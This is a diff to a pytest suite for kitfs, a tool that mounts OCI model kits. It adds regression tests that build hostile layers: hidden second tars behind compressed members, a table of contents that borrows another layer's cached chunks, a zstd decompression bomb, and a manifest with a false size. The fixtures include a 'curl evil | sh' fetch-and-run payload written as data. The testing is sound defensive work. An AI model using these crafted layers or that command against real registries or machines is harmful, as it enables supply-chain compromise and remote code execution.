@@ -12,15 +12,19 @@ from __future__ import annotations
 
 import contextlib
 import errno
+import gzip
 import json
 import os
 import time
+import tracemalloc
 from collections.abc import AsyncIterator, Callable
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
 import pytest
 import trio
+import zstandard
 from crafted import (
     NONSENSE,
     CraftLayer,
@@ -29,8 +33,10 @@ from crafted import (
     craft_layer,
     hidden_file_lie,
     hide_entry,
+    kit_blobs,
     lie_in_headers,
     publish_kit,
+    sha256,
     swap_files,
 )
 from faultproxy import Corrupt, Fault, FaultProxy, Hang, Replace, Reset, Status, Truncate
@@ -39,9 +45,10 @@ from helpers import kitfs
 from kitfs.cache.fileformat import CHUNK_MAGIC, write_frame
 from kitfs.engine.reader import EngineConfig
 from kitfs.engine.session import OpenedKit, open_kit
-from kitfs.errors import IntegrityError, KitfsError
-from kitfs.modelkit.toc import LayerToc
-from kitfs.oci.client import ClientOptions
+from kitfs.errors import FormatError, IntegrityError, KitfsError
+from kitfs.modelkit import mediatypes as mt
+from kitfs.modelkit.toc import LayerToc, validate_layer_toc
+from kitfs.oci.client import ClientOptions, RegistryClient
 from kitfs.oci.reference import parse_reference
 from mounting import mounted
 from registry import RegistryServer
@@ -392,7 +399,7 @@ async def test_one_bad_response_fails_one_read_and_the_next_fetches_again(
             with pytest.raises(IntegrityError):
                 await read_file(kit, "model/w.bin")
             assert await read_file(kit, "model/w.bin") == weights
-            assert kit.engine.status()["layers"][0]["state"] == "verified"
+            assert kit.engine.status()["layers"][0]["state"] != "poisoned"
 
 
 # -- through a real mount ---------------------------------------------------------------
@@ -472,3 +479,123 @@ def test_a_cache_directory_others_can_write_is_refused(tmp_path: Path) -> None:
     assert proc.returncode != 0
     assert "cache" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr
     assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr
+
+
+# -- found by a review that attacked the above ----------------------------------------------
+
+
+@pytest.mark.parametrize("compression", ["gzip", "zstd"])
+def test_compressed_chunks_must_make_up_the_whole_blob(compression: str) -> None:
+    """A benign tar as a gzip member / zstd frame in front, another tar cut into chunks
+    behind: `kit unpack` decompresses the blob and stops at the first tar's end, a mount of
+    the chunks showed the second. Before: the gap was allowed and the mount served it."""
+    benign = build_tar([("model/run.py", b"print('hello')\n")])
+    seek = craft_layer(build_tar([("model/run.py", b"import os; os.system('evil')\n")]),
+                       compression=compression)  # type: ignore[arg-type]
+    assert seek.toc is not None
+    prefix = (gzip.compress(benign, mtime=0) if compression == "gzip"
+              else zstandard.ZstdCompressor().compress(benign))
+    blob = prefix + seek.blob
+    toc = replace(seek.toc, digest=sha256(blob), blob_size=len(blob), chunks=tuple(
+        replace(c, blob_offset=c.blob_offset + len(prefix)) for c in seek.toc.chunks))
+    with pytest.raises(FormatError, match=r"starts at \d+ in the blob"):
+        validate_layer_toc(toc, len(blob), True)
+
+
+async def test_a_table_of_contents_cannot_claim_another_layers_cached_chunks(
+    registry: RegistryServer, tmp_path: Path
+) -> None:
+    """Kit B's blob is benign, its table of contents carries kit A's chunk digests and
+    entries. Keyed by digest alone, a node that had mounted A served A's bytes as B's.
+    Now chunks a table of contents vouches for are cached per layer."""
+    evil_py = b"import os; os.system('curl evil | sh')  #"
+    benign_py = b"print('hello')".ljust(len(evil_py))
+    a = craft_layer(build_tar([("model/run.py", evil_py)]))
+    b = craft_layer(build_tar([("model/run.py", benign_py)]))
+    assert a.toc is not None and len(a.blob) == len(b.blob)
+    ref_a = await publish_kit(registry.host, "alias/a", "v1", [a])
+    lie = replace(a.toc, digest=b.digest, diff_id=b.digest)
+    ref_b = await publish_kit(registry.host, "alias/b", "v1", [replace(b, toc=lie)])
+    cache = tmp_path / "cache"
+    async with opened(ref_a, cache) as kit:
+        assert await read_file(kit, "model/run.py") == evil_py
+    async with opened(ref_b, cache) as kit:
+        with pytest.raises(IntegrityError):
+            await read_file(kit, "model/run.py")
+
+
+async def test_a_seekable_chunk_that_decompresses_past_its_size_stops_there(
+    registry: RegistryServer, tmp_path: Path
+) -> None:
+    """A few KiB of zstd that expand to 256 MiB, where the table of contents says 1 MiB:
+    refused having held little more than 1 MiB. Before: all 256 MiB, then the check."""
+    tar = build_tar([("model/w.bin", os.urandom(3 << 20))])
+    seek = craft_layer(tar, compression="zstd", chunk_size=1 << 20)
+    assert seek.toc is not None
+    bomb = zstandard.ZstdCompressor(level=1).compress(bytes(256 << 20))
+    c0 = seek.toc.chunks[0]
+    shift = len(bomb) - c0.blob_size
+    blob = bomb + seek.blob[c0.blob_offset + c0.blob_size:]
+    chunks = (replace(c0, blob_size=len(bomb)),
+              *(replace(c, blob_offset=c.blob_offset + shift) for c in seek.toc.chunks[1:]))
+    toc = replace(seek.toc, digest=sha256(blob), blob_size=len(blob), chunks=chunks)
+    layer = CraftLayer(blob, seek.media_type, "./model", toc=toc, diff_id=sha256(tar))
+    ref = await publish_kit(registry.host, "bomb/seekable", "v1", [layer])
+    async with opened(ref, tmp_path / "cache") as kit:
+        node = kit.tree.nodes["model/w.bin"]
+        tracemalloc.start()
+        try:
+            with pytest.raises(KitfsError):
+                await kit.engine.read(node, 0, 4096)
+            _, peak = tracemalloc.get_traced_memory()
+        finally:
+            tracemalloc.stop()
+    assert peak < 48 << 20, f"peak {peak >> 20} MiB for a 1 MiB chunk"
+
+
+async def test_a_kit_zstd_layer_of_zeros_is_listed_and_read_in_bounded_memory(
+    registry: RegistryServer, tmp_path: Path
+) -> None:
+    """An honest layer `kit` compressed: 256 MiB of zeros in about 8 KiB. Before: each
+    network piece was decompressed whole (256 MiB at once, 30000-fold)."""
+    zeros = 256 << 20
+    tar = build_tar([("model/zeros.bin", bytes(zeros))])
+    layer = craft_layer(tar, compression="zstd", chunked=False)
+    del tar
+    ref = await publish_kit(registry.host, "bomb/zeros", "v1", [layer], toc=None)
+    config = EngineConfig(chunk_size=1 << 20, prefetch="none", read_timeout=30,
+                          memory_bytes=16 << 20)
+    tracemalloc.start()
+    try:
+        async with opened(ref, tmp_path / "cache", config) as kit:
+            node = kit.tree.nodes["model/zeros.bin"]
+            tail = bytes(await kit.engine.read(node, zeros - 4096, 4096))
+            await kit.engine.flush()
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert tail == bytes(4096)
+    assert peak < 96 << 20, f"peaked at {peak >> 20} MiB"
+
+
+async def test_a_manifest_that_lies_about_a_verified_layers_size_is_refused(
+    registry: RegistryServer, tmp_path: Path
+) -> None:
+    """Another manifest names a verified layer with a size of 2^38: its cached layout and
+    record are not used (it used to plan 262144 chunks for a 1 MiB layer), the mount is
+    refused in one line, and the honest kit still mounts from its records."""
+    layer = craft_layer(build_tar([("model/a.bin", os.urandom(1 << 20))]), chunked=False)
+    ref = await publish_kit(registry.host, "size/honest", "v1", [layer], toc=None)
+    cache = tmp_path / "cache"
+    async with opened(ref, cache) as kit:
+        await read_file(kit, "model/a.bin")
+        await state_becomes(kit, "verified")
+    manifest, _, _ = kit_blobs([layer], toc=None)
+    lied = manifest.replace(f'"size":{len(layer.blob)}'.encode(), f'"size":{1 << 38}'.encode())
+    assert lied != manifest
+    async with RegistryClient(registry.host, ClientOptions()) as client:
+        await client.put_manifest("size/honest", "lie", lied, mt.OCI_MANIFEST)
+    proc = kitfs("ls", f"{registry.host}/size/honest:lie")
+    assert proc.returncode == 1 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
+    async with opened(ref, cache) as kit:
+        assert kit.engine.status()["layers"][0]["state"] == "verified"
